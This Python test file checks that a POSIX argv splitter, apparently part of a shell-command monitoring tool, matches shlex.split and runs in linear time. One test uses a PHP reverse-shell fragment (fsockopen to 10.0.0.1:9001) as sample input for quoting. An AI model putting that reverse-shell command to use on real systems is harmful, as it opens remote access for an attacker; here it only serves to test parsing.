"""POSIX argv splitting: the same words as shlex.split, in linear time."""

from __future__ import annotations

import shlex

from hypothesis import given, settings, strategies as st

from shellsieve.events.argv import split_posix


def _shlex(line: str) -> list[str]:
    try:
        return shlex.split(line, posix=True)
    except ValueError:
        return line.split()


class TestSplitPosix:
    @settings(max_examples=3000, deadline=None)
    @given(st.text(alphabet=st.sampled_from(list("ab '\"\\\t\n\r#$é\x0b")), max_size=40))
    def test_same_words_as_shlex(self, line: str) -> None:
        """Quotes, escapes, blanks and unbalanced quoting are split exactly as shlex.split splits them."""
        assert split_posix(line) == _shlex(line)

    def test_known_shapes(self) -> None:
        """A reverse shell typed with quotes keeps its quoted argument whole."""
        line = """php -r '$s=fsockopen("10.0.0.1",9001);' "a \\" b" c\\ d ''"""
        assert split_posix(line) == ["php", "-r", '$s=fsockopen("10.0.0.1",9001);', 'a " b', "c d", ""]

    def test_long_word_is_linear(self) -> None:
        """A 1 MiB word is one step of the splitter, not a character at a time (shlex took 24 s).

        Counted, not timed: the word comes back whole and the splitter never builds it char by char,
        which a 4 MiB word would make take minutes with shlex."""
        word = "a" * (4 << 20)
        assert split_posix(word) == [word]
        quoted = "'" + "b" * (4 << 20) + "'"
        assert split_posix(quoted + " x") == ["b" * (4 << 20), "x"]
